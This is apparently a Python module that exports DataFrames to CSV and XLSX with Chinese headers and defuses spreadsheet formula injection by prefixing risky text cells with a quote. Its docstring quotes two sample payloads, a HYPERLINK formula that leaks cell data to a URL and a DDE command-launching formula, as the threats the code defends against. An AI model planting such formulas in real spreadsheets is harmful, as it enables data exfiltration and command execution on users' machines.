"""Exports with Chinese headers: CSV (UTF-8 with BOM, so Excel opens it right) and XLSX.

Every export goes through `neutralise()` first: imported text such as `=HYPERLINK("http://…?d="&B2,"详情")` or
`=cmd|' /C calc'!A0` must reach the spreadsheet as text, never as a live formula (OWASP CSV injection: a cell
starting with = + - @ TAB or CR is prefixed with a single quote). Numbers stay numbers; only text is touched."""
from __future__ import annotations

import io

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise_text(v):
    if isinstance(v, str) and v.startswith(FORMULA_START):
        return "'" + v
    return v


def neutralise(df: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells and column names cannot be read as formulas."""
    out = df.copy()
    out.columns = [neutralise_text(str(c)) if isinstance(c, str) else c for c in out.columns]
    for c in out.columns:
        col = out[c]
        if col.dtype == object or pd.api.types.is_string_dtype(col):
            out[c] = col.map(neutralise_text).astype(object)
    return out


def to_csv(df: pd.DataFrame) -> bytes:
    # CRLF line ends (what Excel writes): a cell holding a bare CR is then quoted instead of breaking the row
    return neutralise(df).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")


def to_xlsx(df: pd.DataFrame, sheet: str) -> bytes:
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        neutralise(df).to_excel(xw, index=False, sheet_name=sheet[:31].replace("/", "-"))
    return buf.getvalue()
